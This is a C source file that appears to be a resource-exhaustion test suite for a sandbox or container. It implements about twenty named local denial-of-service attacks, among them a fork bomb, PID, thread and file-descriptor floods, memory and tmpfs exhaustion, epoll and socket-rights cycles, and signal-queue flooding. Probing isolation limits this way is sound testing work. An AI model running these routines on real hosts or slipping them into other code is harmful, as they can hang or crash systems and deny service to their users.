/* Takes all that there is of something. */
#include "attack.h"

static void *sleep_long(void *unused) { pause(); return unused; }

static void threads(void) {
    pthread_attr_t small;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 16384);
    pthread_t thread;
    for (double start = now(); goes_on(start) && pthread_create(&thread, &small, sleep_long, NULL) == 0;) {}
}

static void pids(void) {
    for (double start = now(); goes_on(start);) {
        pid_t child = fork();
        if (child == 0) { for (;;) pause(); }
        if (child < 0) break;
    }
}

/* Every process makes more of them. */
static void fork_bomb(void) {
    if (fork() == 0) {
        for (double start = now(); goes_on(start);) fork();
        for (;;) pause();
    }
    sleep(2);
}

/* Makes processes until one of them is ended for want of memory. */
static void crowd(void) {
    int status = 0;
    for (double start = now(); !WIFSIGNALED(status); waitpid(-1, &status, WNOHANG)) {
        if (fork() == 0) { for (;;) pause(); }
        if (now() - start > 60) exit(1);
    }
}

static void raise_files(void) {
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
}

static void fds(void) {
    raise_files();
    for (double start = now(); goes_on(start) && dup(0) >= 0;) {}
    dup2(0, 1048575);
}

static void files(void) {
    raise_files();
    for (double start = now(); goes_on(start) && eventfd(0, 0) >= 0 && open("/", O_TMPFILE | O_RDWR, 0600) >= 0;) {}
}

static void memory(void) {
    for (;;) {
        char *page = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (page == MAP_FAILED) return;
        memset(page, 1, 1 << 20);
    }
}

static void mappings(void) {
    int protection = PROT_READ;
    char *area = mmap(NULL, 1UL << 30, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    for (double start = now(); goes_on(start); area += 4096, protection ^= PROT_WRITE)
        if (mprotect(area, 4096, protection) < 0) break;
    for (double start = now(); goes_on(start);)
        if (mmap(NULL, 4096, protection ^= PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0) == MAP_FAILED) break;
}

static void sockets(void) {
    raise_files();
    char buffer[65536] = { 0 };
    int pair[2], most = 1 << 30;
    for (double start = now(); goes_on(start) && socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == 0;) {
        setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &most, sizeof most);
        while (write(pair[0], buffer, sizeof buffer) > 0) {}
    }
}

static void pipes(void) {
    raise_files();
    char buffer[65536] = { 0 };
    int pair[2];
    for (double start = now(); goes_on(start) && pipe2(pair, O_NONBLOCK) == 0;) {
        fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
        while (write(pair[1], buffer, sizeof buffer) > 0) {}
    }
}

static void tmpfs(void) {
    char name[64], buffer[65536] = { 0 };
    int n = 0;
    for (double start = now(); goes_on(start); n++) {
        snprintf(name, sizeof name, "/dev/shm/%d", n);
        int fd = open(name, O_CREAT | O_RDWR, 0600);
        if (fd < 0) break;
        for (int i = 0; i < 16 && write(fd, buffer, sizeof buffer) > 0; i++) {}
        fallocate(fd, 0, 0, 1L << 50);
        ftruncate(fd, 1L << 62);
        mmap(NULL, 1UL << 40, PROT_READ, MAP_SHARED, fd, 1L << 50);
        close(fd);
    }
}

static void watches(void) {
    char name[64];
    for (double start = now(); goes_on(start);) {
        int notify = inotify_init1(0);
        if (notify < 0) break;
        for (int n = 0; n < 10000 && goes_on(start); n++) {
            snprintf(name, sizeof name, "/tmp/w%d", n);
            close(open(name, O_CREAT | O_WRONLY, 0600));
            if (inotify_add_watch(notify, name, IN_ALL_EVENTS) < 0) break;
        }
    }
}

static void on_signal(int signal) { (void)signal; }

static void timers(void) {
    struct sigevent event = { .sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN };
    struct itimerspec often = { { 0, 1 }, { 0, 1 } };
    struct itimerval soon = { { 0, 1 }, { 0, 1 } };
    timer_t timer;
    signal(SIGRTMIN, on_signal);
    signal(SIGALRM, on_signal);
    signal(SIGPROF, on_signal);
    setitimer(ITIMER_REAL, &soon, NULL);
    setitimer(ITIMER_PROF, &soon, NULL);
    for (double start = now(); goes_on(start);) {
        if (timer_create(CLOCK_MONOTONIC, &event, &timer) == 0) timer_settime(timer, 0, &often, NULL);
        int fd = timerfd_create(CLOCK_MONOTONIC, 0);
        timerfd_settime(fd, 0, &often, NULL);
    }
}

/* Each of a level's instances holds each of the level's below. */
static void epolls(void) {
    int level[5][30], counter = eventfd(0, 0);
    raise_files();
    for (int l = 0; l < 5; l++)
        for (int i = 0; i < 30; i++) {
            level[l][i] = epoll_create1(0);
            struct epoll_event event = { .events = EPOLLIN };
            if (l == 0) epoll_ctl(level[l][i], EPOLL_CTL_ADD, counter, &event);
            for (int j = 0; l > 0 && j < 30; j++) epoll_ctl(level[l][i], EPOLL_CTL_ADD, level[l - 1][j], &event);
        }
    struct epoll_event found[100];
    uint64_t one = 1;
    for (double start = now(); goes_on(start);) {
        if (write(counter, &one, 8) < 0 || read(counter, &one, 8) < 0) break;
        for (int i = 0; i < 30; i++) epoll_wait(level[4][i], found, 100, 0);
    }
}

static int send_fd(int socket, int fd) {
    char control[CMSG_SPACE(sizeof fd)] = { 0 }, byte = 0;
    struct iovec part = { &byte, 1 };
    struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    *head = (struct cmsghdr){ .cmsg_len = CMSG_LEN(sizeof fd), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS };
    memcpy(CMSG_DATA(head), &fd, sizeof fd);
    return sendmsg(socket, &message, MSG_DONTWAIT);
}

/* Sockets that lie in their own inbox, and a chain that is longer than a stack is deep. */
static void rights(void) {
    int pair[2], end, other;
    for (double start = now(); goes_on(start) && socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0;) {
        send_fd(pair[0], pair[1]);
        send_fd(pair[1], pair[0]);
        close(pair[0]);
        close(pair[1]);
    }
    socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
    end = pair[0], other = pair[1];
    for (double start = now(); goes_on(start) && socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0;) {
        if (send_fd(pair[0], end) < 0) break;
        close(end);
        close(pair[0]);
        end = pair[1];
    }
    close(end);
    close(other);
}

static void directories(void) {
    chdir("/tmp");
    for (double start = now(); goes_on(start) && mkdir("d", 0700) == 0 && chdir("d") == 0;) {}
    char path[PATH_MAX];
    getcwd(path, sizeof path);
    chdir("/tmp");
    rename("d", "e");
}

static void arguments(void) {
    static char word[131072 - 1];
    memset(word, 'x', sizeof word - 1);
    for (int count = 16; count < 100000; count *= 4) {
        char **all = calloc(count + 1, sizeof *all);
        for (int i = 0; i < count; i++) all[i] = word;
        if (fork() == 0) { execve("/exhaust", all, all); _exit(errno == E2BIG ? 0 : 1); }
        wait(NULL);
        for (int i = 0; i < count; i++) all[i] = "";
        if (fork() == 0) { execve("/exhaust", all, NULL); _exit(errno == E2BIG ? 0 : 1); }
        wait(NULL);
        free(all);
    }
}

/* Signals to oneself, to children, and as many as the queue takes. */
static void signals(void) {
    for (int number = SIGRTMIN; number <= SIGRTMAX; number++) signal(number, on_signal);
    signal(SIGUSR1, on_signal);
    pid_t parent = getpid();
    for (int i = 0; i < 4; i++)
        if (fork() == 0) {
            for (double start = now(); goes_on(start);)
                if (kill(parent, SIGUSR1) < 0 || sigqueue(parent, SIGRTMIN, (union sigval){ .sival_int = i }) < 0) {}
            _exit(0);
        }
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_SETMASK, &all, NULL);
    for (double start = now(); goes_on(start) && sigqueue(parent, SIGRTMAX, (union sigval){ 0 }) == 0;) {}
    sigemptyset(&all);
    sigprocmask(SIG_SETMASK, &all, NULL);
    while (wait(NULL) > 0 || errno == EINTR) {}
}

/* Locks on every other byte of a file. */
static void locks(void) {
    int fd = open("/tmp/locked", O_CREAT | O_RDWR, 0600);
    struct flock lock = { .l_type = F_WRLCK, .l_len = 1 };
    for (double start = now(); goes_on(start) && fcntl(fd, F_SETLK, &lock) == 0;) lock.l_start += 2;
}

/* Things that the kernel keeps, each until it is refused: an attacker who is not would be killed long before. */
static void keep_messages(double start) {
    static char text[65536];
    int pair[2], most = 1 << 20;
    while (now() - start < 20 && socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair) == 0) {
        setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &most, sizeof most);
        while (send(pair[0], text, sizeof text, 0) > 0) {}
        if (errno != EAGAIN) return;
    }
}

static void keep_links(double start) {
    static char target[4096], name[64];
    memset(target, 'x', sizeof target - 1);
    mkdir("/tmp/kept", 0700);
    for (int n = 0; now() - start < 20; n++) {
        snprintf(name, sizeof name, "/tmp/kept/%d", n);
        if (symlink(target, name) < 0) return;
    }
}

static void keep_files(double start) {
    while (now() - start < 20 && syscall(SYS_memfd_create, "kept", 0) >= 0) {}
}

static void kept(void) {
    static void (*const kinds[])(double) = { keep_messages, keep_links, keep_files };
    raise_files();
    for (int i = 0; i < 3; i++) {
        pid_t child = fork();
        if (child == 0) { kinds[i](now()); _exit(0); }
        int status;
        waitpid(child, &status, 0);
        if (status != 0) printf("%d ends with %x\n", i, status);
    }
}

int main(int argc, char **argv) {
    static const struct attack attacks[] = {
        { "threads", threads }, { "pids", pids }, { "fork_bomb", fork_bomb }, { "crowd", crowd }, { "fds", fds },
        { "files", files },
        { "memory", memory }, { "mappings", mappings }, { "sockets", sockets }, { "pipes", pipes }, { "tmpfs", tmpfs },
        { "watches", watches }, { "timers", timers }, { "epolls", epolls }, { "rights", rights },
        { "directories", directories }, { "arguments", arguments }, { "signals", signals }, { "locks", locks }, { "kept", kept },
        { 0 },
    };
    return run_attack(attacks, argc, argv);
}
